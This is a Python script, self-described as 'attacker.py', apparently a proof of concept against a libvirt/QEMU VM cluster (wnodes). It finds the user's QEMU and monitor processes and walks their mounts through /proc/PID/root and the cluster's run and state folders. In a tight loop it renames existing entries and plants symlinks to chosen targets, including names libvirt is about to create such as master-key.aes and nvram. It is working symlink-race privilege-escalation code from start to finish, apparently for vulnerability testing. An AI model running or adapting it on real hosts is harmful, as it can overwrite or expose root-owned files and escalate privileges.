#!/usr/bin/env python3
"""Plant symlinks to root's files in every folder of the caller's machines.

usage: attacker.py TARGETS CLUSTER SECONDS

Runs as the job's owner, in a tight loop: in every folder that this user can
write below a machine's own mounts (through /proc/PID/root of its QEMU and
monitor) and below the cluster's folders, each entry is replaced by a symlink
to a target, and names that libvirt is about to create are planted too.
"""
import os
import signal
import sys
import time

targets_folder, cluster, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
targets = [os.path.join(targets_folder, n) for n in ("a", "b", "c", "tree")]
names = ["master-key.aes", "monitor.sock", "channel", "domain-1", "save", "snapshot", "nvram", "x"]
planted = 0
seen = set()


def machines():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.stat("/proc/" + pid).st_uid != os.getuid():
                continue
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                line = f.read()
        except OSError:
            continue
        if b"qemu-system" in line or b"wnodes-monitor" in line:
            seen.add(pid)
            yield pid


def mounts(pid):
    try:
        with open(f"/proc/{pid}/mountinfo") as f:
            return [line.split()[4] for line in f if " tmpfs " in line or cluster in line]
    except OSError:
        return []


def plant(folder):
    global planted
    try:
        entries = os.listdir(folder)
    except OSError:
        entries = []
    for i, name in enumerate(set(entries + names)):
        path = os.path.join(folder, name)
        try:
            if not os.path.islink(path) and os.path.lexists(path):
                os.rename(path, path + ".moved")
            os.symlink(targets[i % len(targets)], path)
            planted += 1
        except OSError:
            pass


def walk(top, depth):
    if os.access(top, os.W_OK):
        plant(top)
    if depth == 0:
        return
    try:
        with os.scandir(top) as entries:
            folders = [e.path for e in entries if e.is_dir(follow_symlinks=False)]
    except OSError:
        return
    for folder in folders:
        walk(folder, depth - 1)


signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
end = time.time() + seconds
try:
    while time.time() < end:
        for pid in machines():
            for mount in mounts(pid):
                walk(f"/proc/{pid}/root{mount}", 6)
        for name in ("run", "state"):
            walk(os.path.join(cluster, name), 4)
finally:
    print("machines seen:", len(seen), "symlinks planted:", planted)
